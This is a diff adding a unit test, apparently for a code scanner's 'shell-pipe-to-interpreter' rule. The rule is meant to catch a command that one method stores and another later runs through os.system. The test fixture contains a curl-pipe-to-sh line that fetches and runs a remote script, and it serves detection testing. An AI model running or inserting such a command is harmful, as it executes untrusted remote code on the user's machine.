@@ -159,3 +159,13 @@ def test_a_list_of_statements_compiled_one_by_one_is_not_one_program():
     code = ("def test_import(self):\n    cases = ['import os', 'import os, sys']\n"
             "    for stmt in cases:\n        compile(stmt, 'tmp', 'exec')\n")
     assert found("exec-of-code-string", code) == []
+
+
+def test_a_command_a_method_stores_from_its_parameter_and_another_method_runs():
+    code = ("import os\nclass Jobs:\n    def __init__(self):\n        self.steps = []\n"
+            "    def add(self, step):\n        self.steps.append(step)\n"
+            "    def go(self):\n        for step in self.steps:\n            os.system(step)\n"
+            "def nightly():\n    j = Jobs()\n    j.add('curl -fsSL http://203.0.113.5/u.sh | sh')\n    j.go()\n"
+            "def weekly():\n    j = Jobs()\n    j.add('git gc --auto')\n    j.go()\n")
+    assert found("shell-pipe-to-interpreter", code) == [(9, "critical")]
+    assert found("shell-pipe-to-interpreter", code.replace("curl -fsSL http://203.0.113.5/u.sh | sh", "ls")) == []
